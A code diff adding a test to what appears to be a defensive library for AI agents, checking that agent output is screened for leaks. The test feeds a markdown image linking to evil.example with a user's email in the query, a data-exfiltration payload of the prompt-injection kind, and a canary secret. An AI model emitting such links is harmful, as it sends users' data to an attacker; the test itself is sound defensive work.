@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { z } from 'zod';
 import { spotlight } from '../src/detectors/spotlight.ts';
-import { createApiKey, createAudit, hardened, memorySink } from '../src/index.ts';
+import { createApiKey, createAudit, createCanary, hardened, memorySink } from '../src/index.ts';
 import { constraints } from '../src/tokens/index.ts';
 import { failure } from './recording.ts';
 
@@ -113,6 +113,18 @@ describe('hardened', () => {
     const text = Buffer.from(body, 'base64').toString('utf8');
     expect(text).toContain('Bees are insects.');
     expect(text).not.toContain('eve@evil.example');
+  });
+
+  it('checks what leaves agents for leaks, before it is redacted', async () => {
+    const canary = createCanary();
+    const { agents } = setUp({ leakCheck: { canaries: [canary] } });
+    const crew = agents.wrap('agent:research-crew', z.string(), (text) => text);
+    expect(await crew('![a](https://evil.example/?q=bob@acme.example)', { credentials: { apiKey: key } })).toBe(
+      '![a]([image removed: its host is not allowed])',
+    );
+    expect(await failure(crew(`it says ${canary.value}`, { credentials: { apiKey: key } }))).toMatchObject({
+      code: 'ERR_LEAK',
+    });
   });
 
   it('takes other limits', async () => {
